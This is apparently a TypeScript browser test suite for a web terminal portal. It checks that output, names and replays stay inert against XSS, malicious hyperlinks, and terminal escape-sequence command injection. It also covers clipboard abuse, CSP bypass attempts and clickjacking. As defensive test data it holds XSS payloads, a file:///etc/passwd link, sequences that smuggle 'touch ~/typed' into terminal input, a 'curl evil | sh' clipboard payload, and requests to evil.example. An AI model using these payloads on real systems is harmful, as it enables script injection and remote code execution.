/**
 * What a program, or somebody who chooses a name, can make a page of the portal do: nothing but show it. In a real
 * browser, live and in the replay. docs/security.md names each.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openShell, screenShows, startBrowsing, type, type Browsing } from '../browsing.ts';
import { tellFailures } from '../tell-failures.ts';
import { until } from '../machine/until.ts';

const SCRIPT = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';

let browsing: Browsing;
tellFailures(() => browsing);
let page: Page;
/** Windows and questions that pages opened by themselves. */
const opened: string[] = [];

beforeAll(async () => {
  browsing = await startBrowsing();
  page = await browsing.signedIn('admin');
  page.context().on('page', (other) => opened.push(other.url()));
  page.on('dialog', (dialog) => (opened.push(dialog.message()), void dialog.dismiss()));
});
afterAll(() => browsing?.[Symbol.asyncDispose]());

async function nothingRan(): Promise<void> {
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  expect(await page.locator('img[src="x"], a[href^="javascript:"], a[href^="data:"]').count()).toBe(0);
  expect(opened).toEqual([]);
}

/** A click on a line of the terminal in front. */
async function click(text: string): Promise<void> {
  const place = (await page.locator('.xterm-rows:visible > div', { hasText: text }).first().boundingBox())!;
  // Moved there first: a link is one once the pointer is over it.
  await page.mouse.move(place.x + 10, place.y + place.height / 2);
  await page.mouse.move(place.x + 20, place.y + place.height / 2);
  await page.mouse.click(place.x + 20, place.y + place.height / 2);
}

/** Prints exactly these bytes, without them being on the command line. */
const print = (text: string) => `echo ${Buffer.from(text).toString('base64')} | base64 -d`;

describe('what a program prints', () => {
  let session: string;

  it('tags and titles are text', async () => {
    await openShell(page, browsing.portal.url);
    const { items } = await browsing.portal.admin<{ items: { id: string }[] }>('GET', '/sessions');
    session = items[0]!.id;
    await type(page, `clear; ${print(`\x1b]0;${SCRIPT}\x07\x1b]2;${SCRIPT}\x07${SCRIPT}\nend-1\n`)}`, /^end-1/m);
    await screenShows(page, /<img src=x onerror/);
    await nothingRan();
  });

  it('links that lead to no http are no links', async () => {
    const link = (address: string, text: string) => `\x1b]8;;${address}\x07${text}\x1b]8;;\x07`;
    const links = [
      link('javascript:window.pwned=1', 'CLICK-SCRIPT'),
      link(`data:text/html,${SCRIPT}`, 'CLICK-DATA'),
      link('file:///etc/passwd', 'CLICK-FILE'),
      link(`${browsing.portal.url}/healthz`, 'CLICK-WEB'),
    ];
    await type(page, `clear; ${print(`${links.join('\n')}\njavascript:window.pwned=2\nend-2\n`)}`, /^end-2/m);
    for (const text of ['CLICK-SCRIPT', 'CLICK-DATA', 'CLICK-FILE', 'javascript:window']) await click(text);
    await nothingRan();
    await click('CLICK-WEB'); // so that the others were clicked, too
    await until(() => opened.length > 0, { what: 'the window of the link that is one' });
    expect(opened.splice(0)).toHaveLength(1);
    await page.bringToFront();
  });

  it('sequences that ask the terminal to type do not type what the program chose (CVE-2003-0063)', async () => {
    // The title as input, the answerback, an unknown DECRQSS, and a device report: none holds a command of theirs.
    const asks = '\x1b]2;\rtouch ~/typed\r\x07\x1b[21t\x1b[20t\x05\x1bP$q\rtouch ~/typed\r\x1b\\\x1b[c';
    // What is answered ends with the device report's last letter; nothing before has one.
    await type(page, `clear; ${print(asks)}; read -rst 20 -d c _; echo end-3`, /^end-3/m);
    await page.keyboard.press('Control+C');
    await type(page, 'clear; ls ~/typed', /No such file/);
  });

  it('the clipboard is neither read nor written without a yes', async () => {
    await page.evaluate(() => navigator.clipboard.writeText('mine'));
    const text = Buffer.from('curl evil | sh').toString('base64');
    await type(page, `clear; ${print(`\x1b]52;c;${text}\x07\x1b]52;c;?\x07end-4\n`)}`, /^end-4/m);
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('mine');
    expect(await screenShows(page, /\$ *$/m)).not.toContain(Buffer.from('mine').toString('base64'));
  });

  it('the replay, which an auditor opens later, is as inert', async () => {
    await browsing.portal.admin('POST', `/sessions/${session}/end`);
    await browsing.portal.ended(session);
    const { items } = await browsing.portal.admin<{ items: { atMs: number }[] }>(
      'GET',
      `/sessions/${session}/recording/search?q=end-1`,
    );
    await page.goto(`${browsing.portal.url}/sessions/${session}?at=${items.at(-1)!.atMs}`);
    await screenShows(page, /<img src=x onerror/);
    await nothingRan();
  });
});

it('were something HTML all the same, the page’s policy would run none of it', async () => {
  await page.goto(`${browsing.portal.url}/sessions`);
  const html = `${SCRIPT}<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
    <link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">
    <a href="javascript:window.pwned=1">x</a><form action="https://evil.example/"><button>x</button></form>`;
  await page.evaluate((evil) => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
    const place = document.body.appendChild(document.createElement('div'));
    place.innerHTML = evil;
    place.querySelector('a')!.click();
    place.querySelector('button')!.click();
    fetch('https://evil.example/').catch(() => {});
  }, html);
  const refused = () => page.evaluate(() => (window as unknown as { seen: string[] }).seen);
  for (const directive of [
    'script-src-attr',
    'script-src-elem',
    'frame-src',
    'object-src',
    'style-src-elem',
    'base-uri',
    'form-action',
    'connect-src',
  ])
    await expect.poll(refused, { timeout: 5_000 }).toContain(directive);
  expect(await page.evaluate(() => ['pwned' in window, document.baseURI])).toEqual([false, page.url()]);
  await page.reload();
});

it('no page elsewhere shows it in a frame (clickjacking)', async () => {
  const other = await page.context().newPage();
  opened.length = 0;
  for (const path of ['/sessions', '/sign-in', '/api/v1/me']) {
    const body = `<iframe src="${browsing.portal.url}${path}"></iframe>`;
    await other.route('http://evil.example/**', (route) => route.fulfill({ contentType: 'text/html', body }));
    await other.goto(`http://evil.example${path}`);
    // What Chromium puts in the place of what may not be framed.
    await expect.poll(() => other.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    await other.unrouteAll();
  }
  await other.close();
});

it('names and descriptions are text on every page', async () => {
  const { portal } = browsing;
  const password = 'long enough for anybody';
  await portal.admin('POST', '/users', { email: 'evil@example.com', name: SCRIPT, password });
  const role = { portal: 'member', clusterRoles: ['view'], namespaces: [], groups: [SCRIPT], maxSessions: 1 };
  const times = { idleMs: 600_000, detachedMs: 60_000, hardCapMs: 3_600_000 };
  await portal.admin('PUT', '/roles/evil', { description: SCRIPT, ...role, ...times });
  for (const path of ['/users', '/roles', '/audit', '/sessions', '/clusters']) {
    await page.goto(portal.url + path);
    await page.getByRole('heading').first().waitFor();
    if (path === '/users' || path === '/roles') await page.getByText('<img src=x').first().waitFor();
    await nothingRan();
  }
});
